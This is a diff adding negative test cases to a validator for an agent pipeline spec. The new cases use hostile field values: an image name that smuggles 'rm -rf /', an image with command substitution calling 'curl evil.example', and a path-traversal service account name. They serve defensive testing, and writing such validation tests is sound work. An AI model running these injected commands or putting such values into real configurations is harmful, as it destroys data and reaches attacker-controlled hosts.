@@ -96,6 +96,21 @@ export const INVALID_CASES: InvalidCase[] = [
     serverOnly: 'list-map-key',
   },
   {
+    title: 'image that is a shell command',
+    set: [['spec.agents.pipeline.0.image', 'busybox; rm -rf / #']],
+    field: 'spec.agents.pipeline[0].image',
+  },
+  {
+    title: 'image that runs a command substitution',
+    set: [['spec.agents.pipeline.0.image', '$(curl evil.example)']],
+    field: 'spec.agents.pipeline[0].image',
+  },
+  {
+    title: 'ServiceAccount name that is a path',
+    set: [['spec.agents.pipeline.0.serviceAccountName', '../../kube-system/default']],
+    field: 'spec.agents.pipeline[0].serviceAccountName',
+  },
+  {
     title: 'stage timeout of 0s',
     set: [['spec.agents.pipeline.0.config.timeout', '0s']],
     field: 'spec.agents.pipeline[0].config.timeout',
